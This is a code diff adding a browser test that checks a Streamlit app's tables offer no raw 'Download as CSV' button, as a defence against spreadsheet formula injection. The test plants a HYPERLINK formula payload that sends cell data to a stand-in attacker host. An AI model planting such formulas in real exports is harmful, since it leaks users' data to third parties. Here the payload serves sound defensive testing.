@@ -350,3 +350,32 @@ def test_a_refused_link_and_the_fact_editor_in_chromium(served_app, settings):
         finally:
             browser.close()
             lab.close()
+
+
+def test_no_table_offers_a_download_of_stored_text_as_it_is(served_app, settings):
+    """st.dataframe's toolbar "Download as CSV" writes cells as they are (``=HYPERLINK(…)`` stays a formula):
+    tables offer none; the page's own CSV export (neutralised) is the way to download the trail."""
+    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright (Python) is not installed")
+    from memory.lab import MemoryLab
+
+    lab = MemoryLab(settings)
+    try:
+        lab.chat("csvu", "c1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', strategy="buffer")
+    finally:
+        lab.close()
+    with sync_api.sync_playwright() as p:
+        browser = launch(p)
+        try:
+            page = browser.new_page(viewport={"width": 1400, "height": 1000})
+            for path in ("audit?user=csvu", "redis_keys?user=csvu&session=c1"):
+                page.goto(served_app + path)
+                page.wait_for_selector("[data-testid=stDataFrame]", timeout=120_000)
+                _idle(page)
+                frame = page.locator("[data-testid=stDataFrame]").first
+                frame.hover()
+                toolbar = page.locator("[data-testid=stElementToolbar]").first
+                toolbar.wait_for(timeout=30_000)
+                labels = toolbar.locator("button").evaluate_all("els => els.map(e => e.getAttribute('aria-label'))")
+                assert "Search" in labels and "Download as CSV" not in labels, (path, labels)
+        finally:
+            browser.close()
